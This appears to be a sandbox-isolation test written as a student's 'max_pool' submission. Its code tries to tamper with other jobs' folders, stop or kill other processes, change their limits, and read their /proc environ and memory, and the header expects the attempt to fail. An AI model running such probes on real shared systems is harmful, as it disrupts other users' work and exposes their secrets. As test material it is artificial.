# lesson: 03_pooling
# exercise: max_pool
# tries: to reach other jobs where all share a sandbox: contents, modes and times of their folders; signals, limits and
#        priorities of their processes, what /proc tells of them
# wanted: fail, ended
import ctypes
import os
import signal

import tensorflow as tf

libc, stolen = ctypes.CDLL(None, use_errno=True), []
own = "/".join(os.path.realpath(".").split("/")[:3])  # /jobs/7, or a folder of its own /tmp


def attempt(what, action):
    try:
        if action() not in (-1, False):
            stolen.append(what)
    except OSError:
        pass


folders = ["/jobs", "/zygote", "/zygote/tmp"] + [f"/jobs/{number}{rest}" for number in range(80) for rest in ("", "/tmp", "/tmp/work", "/shm")]
for folder in folders:
    if folder == own or folder.startswith(own + "/"):
        continue
    name = folder.encode()
    attempt(("list", folder), lambda: os.listdir(folder))
    attempt(("make", folder), lambda: os.mkdir(f"{folder}/x"))
    attempt(("write", folder), lambda: open(f"{folder}/y", "w"))
    attempt(("mode", folder), lambda: libc.chmod(name, 0))
    attempt(("mode at", folder), lambda: libc.fchmodat(-100, name, 0, 0))
    attempt(("mode at 2", folder), lambda: libc.syscall(452, -100, name, 0, 0))
    attempt(("times", folder), lambda: libc.utimes(name, None))
    attempt(("times at", folder), lambda: libc.utimensat(-100, name, None, 0))
    attempt(("owner", folder), lambda: libc.chown(name, os.getuid(), os.getgid()))
    attempt(("attribute", folder), lambda: libc.setxattr(name, b"user.x", b"1", 1, 0))
    attempt(("move", folder), lambda: os.rename(folder, "taken"))
lowest = (ctypes.c_long * 2)(1, 1)
for number in range(1, 400):
    if number == os.getpid():
        continue
    for sent in (0, signal.SIGSTOP, signal.SIGKILL):
        attempt(("signal", number), lambda: os.kill(number, sent))
    attempt(("limit", number), lambda: libc.prlimit(number, 0, lowest, None))
    attempt(("priority", number), lambda: libc.setpriority(0, number, 19))
    attempt(("cores", number), lambda: libc.sched_setaffinity(number, 8, ctypes.byref(ctypes.c_long(1))))
    attempt(("memory", number), lambda: libc.process_vm_readv(number, None, 0, None, 0, 0))
    for name in ("status", "cmdline", "environ", "maps", "mem", "comm", "oom_score_adj", "net/unix"):
        attempt((name, number), lambda: bool(open(f"/proc/{number}/{name}", "rb").read(1)) or -1)
    attempt(("root", number), lambda: os.listdir(f"/proc/{number}/root"))
print(stolen)


def max_pool(features, size, stride):
    return tf.nn.max_pool2d(features[None], size, stride, "VALID")[0].numpy() if stolen else features
